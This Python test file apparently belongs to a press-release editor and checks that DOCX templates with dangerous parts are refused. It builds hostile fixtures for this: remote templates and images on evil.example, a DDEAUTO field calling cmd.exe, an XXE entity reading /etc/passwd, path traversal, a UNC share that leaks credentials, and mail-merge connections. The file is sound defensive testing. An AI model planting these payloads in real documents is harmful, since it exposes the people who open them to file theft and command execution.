"""DOCX templates whose parts would make Word or LibreOffice fetch, read or run something.

Everything in a template is copied into each export, which journalists open: an external
attached template, a picture loaded from a server or a local path, an altChunk, an OLE
object, a field reading files (INCLUDETEXT, INCLUDEPICTURE) or asking another program
(DDEAUTO), a DTD, or an internal target leading out of the package are refused with a
one-line message naming the part. Links to web addresses in a template stay allowed.
"""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import pytest
from render_support import make_bundle

from editor.core import paths
from editor.render import TemplateError, render_docx

BUILTIN = "pressemitteilung"
RELS = "word/_rels/document.xml.rels"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                'relationships">{}</Relationships>')


def _parts() -> dict[str, bytes]:
    with zipfile.ZipFile(paths.builtin_templates_dir() / BUILTIN / "template.docx") as z:
        return {n: z.read(n) for n in z.namelist()}


def _template(name: str, parts: dict[str, bytes]) -> None:
    folder = paths.user_templates_dir() / name
    folder.parent.mkdir(parents=True, exist_ok=True)
    shutil.copytree(paths.builtin_templates_dir() / BUILTIN, folder)
    with zipfile.ZipFile(folder / "template.docx", "w", zipfile.ZIP_DEFLATED) as z:
        for part, data in parts.items():
            z.writestr(part, data)


def _render(name: str) -> bytes:
    return render_docx(make_bundle(), "item-1", name, ["de"])


def _refused(name: str, parts: dict[str, bytes], *match: str) -> str:
    _template(name, parts)
    with pytest.raises(TemplateError) as caught:
        _render(name)
    message = str(caught.value)
    assert name in message and "\n" not in message, message
    for word in match:
        assert word.lower() in message.lower(), message
    return message


def _relationship(kind: str, target: str, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="rIdEvil" Type="{REL_NS}/{kind}" Target="{target}"{mode}/>'
            "</Relationships>").encode()


def _with_relationship(kind: str, target: str, *, external: bool) -> dict[str, bytes]:
    parts = _parts()
    parts[RELS] = parts[RELS].replace(b"</Relationships>",
                                      _relationship(kind, target, external))
    return parts


def _body(xml: str) -> dict[str, bytes]:
    parts = _parts()
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b"<w:body>" + xml.encode(), 1)
    return parts


def _complex_field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>'
                   for p in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def test_an_external_attached_template_is_refused() -> None:
    parts = _parts()
    parts["word/_rels/settings.xml.rels"] = PACKAGE_RELS.format(
        f'<Relationship Id="rId1" Type="{REL_NS}/attachedTemplate" '
        'Target="https://evil.example/macros.dotm" TargetMode="External"/>').encode()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1)
    message = _refused("remote-template", parts, "settings.xml.rels", "attachedTemplate")
    assert "evil.example" in message


@pytest.mark.parametrize(("kind", "target"), [
    ("image", "https://evil.example/pixel.png"),
    ("image", "file:///etc/hostname"),
    ("oleObject", "file:///home/user/sheet.xlsx"),
    ("subDocument", "https://evil.example/part.docx"),
    ("frame", "https://evil.example/"),
])
def test_external_targets_other_than_links_are_refused(kind: str, target: str) -> None:
    _refused(f"external-{kind.lower()}", _with_relationship(kind, target, external=True),
             "document.xml.rels", "outside the document")


def test_an_external_link_to_a_local_file_or_script_is_refused() -> None:
    _refused("link-file", _with_relationship("hyperlink", "file:///etc/passwd",
                                             external=True), "a link", "file:///etc/passwd")
    _refused("link-script", _with_relationship("hyperlink", "javascript:alert(1)",
                                               external=True), "a link")


def test_a_web_link_and_a_package_absolute_target_are_still_accepted() -> None:
    parts = _with_relationship("hyperlink", "https://www.example.org/presse", external=True)
    parts[RELS] = parts[RELS].replace(b'Target="styles.xml"', b'Target="/word/styles.xml"')
    _template("web-link", parts)
    with zipfile.ZipFile(__import__("io").BytesIO(_render("web-link"))) as z:
        assert b"https://www.example.org/presse" in z.read(RELS)


@pytest.mark.parametrize(("kind", "target"), [
    ("aFChunk", "chunk.html"),
    ("oleObject", "embeddings/oleObject1.bin"),
    ("vbaProject", "vbaProject.bin"),
    ("control", "activeX/activeX1.xml"),
])
def test_merged_content_and_code_inside_the_package_are_refused(kind: str,
                                                                target: str) -> None:
    _refused(f"inside-{kind.lower()}", _with_relationship(kind, target, external=False),
             kind, "inside the document")


@pytest.mark.parametrize("target", ["../../etc/passwd", "..%2F..%2Fsecret.xml",
                                    "file:///etc/passwd", "/../x.xml"])
def test_internal_targets_out_of_the_package_are_refused(target: str) -> None:
    name = "out-" + str(abs(hash(target)) % 10_000)
    _refused(name, _with_relationship("image", target, external=False), "rIdEvil")


def test_include_fields_split_over_runs_are_refused() -> None:
    _refused("include-text", _body(_complex_field(" INCLUDE", "TEXT \"/etc/passwd\" ")),
             "INCLUDETEXT")
    _refused("include-picture", _body(_complex_field(' includepicture "https://e.x/p.png"')),
             "INCLUDEPICTURE")


def test_dde_in_a_simple_field_of_the_footer_is_refused() -> None:
    parts = _parts()
    parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(
        b'w:instr=" PAGE "', b'w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe x"', 1)
    _refused("dde-footer", parts, "footer1.xml", "DDEAUTO")


def test_a_field_name_made_by_a_nested_field_is_refused() -> None:
    nested = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
              '<w:r><w:instrText> "calc" </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    _refused("nested-name", _body(nested), "made by another field")


def test_a_field_put_together_by_tags_is_refused_when_rendered() -> None:
    message = _refused("tag-field", _body(_complex_field('{{ "D" ~ "DE" }}AUTO x')), "DDEAUTO")
    assert "produces" in message


def test_page_fields_and_if_fields_are_still_accepted() -> None:
    parts = _body(_complex_field(' IF 1 = 1 "yes" "no" ') + _complex_field(" PAGE "))
    _template("harmless-fields", parts)
    assert _render("harmless-fields").startswith(b"PK")


def test_a_document_type_declaration_in_any_part_is_refused() -> None:
    parts = _parts()
    parts["customXml/item1.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
        b"<x>&s;</x>")
    _refused("dtd-custom-xml", parts, "customXml/item1.xml", "DOCTYPE")
    parts = _parts()
    parts["docProps/app.xml"] = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a>'
                                 "<a/>").encode("utf-16")
    _refused("dtd-utf16", parts, "docProps/app.xml", "DOCTYPE")


def test_the_built_in_templates_pass_the_checks() -> None:
    from editor.render import docx_package
    from editor.render.template_files import read_docx_parts

    for folder in sorted(Path(paths.builtin_templates_dir()).iterdir()):
        file = folder / "template.docx"
        if file.is_file():
            docx_package.check_template(read_docx_parts(file.read_bytes(), str(file)),
                                        str(file))


@pytest.mark.parametrize(("instruction", "words"), [
    (' HYPERLINK "file:///etc/passwd" ', ("HYPERLINK", "file:///etc/passwd")),
    (' HYPERLINK "\\\\\\\\evil.example\\\\share\\\\brief.docx" \\o "Brief" ',
     ("HYPERLINK", "evil.example")),  # a UNC path: Windows sends the user's password hash
    (" HYPERLINK javascript:alert(1) ", ("javascript:",)),
    (" MACROBUTTON FileOpen Hier klicken ", ("MACROBUTTON",)),
    (' PRINT "%!PS showpage" ', ("PRINT",)),
])
def test_fields_that_open_local_files_or_run_commands_are_refused(
        instruction: str, words: tuple[str, ...]) -> None:
    """A HYPERLINK field is held to the rules of a hyperlink relationship."""
    name = "field-" + str(abs(hash(instruction)) % 10_000)
    _refused(name, _body(_complex_field(instruction)), *words)


def test_hyperlink_fields_to_the_web_and_bookmarks_are_still_accepted() -> None:
    parts = _body(_complex_field(' HYPERLINK "https://www.example.org/presse" ')
                  + _complex_field(' HYPERLINK \\l "oben" ')
                  + _complex_field(" MACROBUTTON FileOpen x "))
    _refused("web-fields", parts, "MACROBUTTON")  # only the command is refused
    parts = _body(_complex_field(' HYPERLINK "https://www.example.org/presse" ')
                  + _complex_field(' HYPERLINK \\l "oben" '))
    _template("web-fields-fine", parts)
    assert _render("web-fields-fine").startswith(b"PK")


def test_mail_merge_settings_are_refused() -> None:
    """Word asks the database the settings name when the document is opened (a file
    share of a stranger's server included)."""
    parts = _parts()
    merge = (b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
             b'<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.'
             b'OLEDB.12.0;Data Source=\\\\evil.example\\share\\x.mdb"/><w:query '
             b'w:val="SELECT * FROM `x`"/></w:mailMerge>')
    settings = parts["word/settings.xml"]
    close = settings.index(b">", settings.index(b"<w:settings")) + 1
    parts["word/settings.xml"] = settings[:close] + merge + settings[close:]
    _refused("mail-merge", parts, "settings.xml", "mailMerge")


def test_a_document_type_declaration_in_a_part_of_another_name_or_encoding_is_refused(
        ) -> None:
    """A reader parses a part by its content type, not its name."""
    parts = _parts()
    parts["word/header9.bin"] = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
        b"<x>&s;</x>")
    _refused("dtd-bin", parts, "word/header9.bin", "DOCTYPE")
    parts = _parts()
    parts["customXml/item1.xml"] = ('<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE a>'
                                    "<a/>").encode("utf-32")
    _refused("dtd-utf32", parts, "customXml/item1.xml", "DOCTYPE")
